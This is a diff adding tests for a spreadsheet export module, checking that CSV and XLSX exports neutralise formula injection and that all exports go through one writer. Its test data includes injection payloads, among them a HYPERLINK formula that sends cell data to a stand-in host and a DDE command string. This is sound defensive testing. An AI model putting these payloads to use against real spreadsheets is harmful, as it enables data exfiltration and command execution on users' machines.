@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import ExcelJS from 'exceljs';
 import { encodeLegacy } from '../core/vietnamese/index.ts';
 import { readTable, tableFormatOf, writeCsv, writeXlsx } from './spreadsheet.ts';
 
@@ -53,4 +54,38 @@ test('writeCsv: BOM for Excel, quotes where needed', () => {
 test('readTable: a file without a header or a binary file is refused with a message', async () => {
   await assert.rejects(readTable(Buffer.from('\n\n')), /header row/);
   await assert.rejects(readTable(Buffer.from([0, 1, 2, 3, 0, 0])), /neither CSV nor XLSX/);
+});
+
+test('exports neutralise text that a spreadsheet would run as a formula; numbers stay numbers; an export imports back as typed', async () => {
+  const dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '  =cmd|\' /C calc\'!A0'];
+  const rows: (string | number | null)[][] = [...dangerous.map((d, i) => [i + 1, d, -5]), [8, 'Góp ý bình thường - không sao', -1.5], [9, '-5', null]];
+  const csv = writeCsv(['STT', 'Nội dung', 'Số'], rows).toString('utf8');
+  for (const line of csv.split(/\r?\n/).slice(1, 8)) assert.match(line, /^\d,"?'/, `neutralised: ${JSON.stringify(line)}`);
+  assert.match(csv, /\n8,Góp ý bình thường - không sao,-1\.5\n/, 'ordinary text and negative numbers are unchanged');
+  assert.match(csv, /\n9,-5,\n/, 'a number written as text is data');
+
+  const xlsx = await writeXlsx('Ý kiến', ['STT', 'Nội dung', 'Số'], rows);
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
+  const sheet = workbook.worksheets[0]!;
+  for (let r = 2; r <= 8; r++) {
+    const cell = sheet.getRow(r).getCell(2);
+    assert.equal(cell.type, ExcelJS.ValueType.String, 'a text cell, never a formula');
+    assert.match(String(cell.value), /^'/);
+  }
+  assert.equal(sheet.getRow(2).getCell(3).value, -5, 'a negative number stays a number');
+
+  for (const bytes of [Buffer.from(csv), xlsx]) {
+    const table = await readTable(bytes);
+    assert.deepEqual(table.rows.slice(0, 4).map((r) => r.cells['Nội dung']), dangerous.slice(0, 4));
+  }
+});
+
+test('every CSV and XLSX export is written here: no other module writes CSV or workbooks itself', async () => {
+  const { readdir, readFile } = await import('node:fs/promises');
+  const root = new URL('../', import.meta.url);
+  const files = (await readdir(root, { recursive: true })).filter((f) => /\.tsx?$/.test(f) && !/\.test\.tsx?$/.test(f) && !f.endsWith('platform/spreadsheet.ts'));
+  const offenders: string[] = [];
+  for (const f of files) if (/from '(csv-stringify[^']*|exceljs)'/.test(await readFile(new URL(f, root), 'utf8'))) offenders.push(f);
+  assert.deepEqual(offenders, [], 'write tables through writeCsv/writeXlsx, which neutralise formulas');
 });
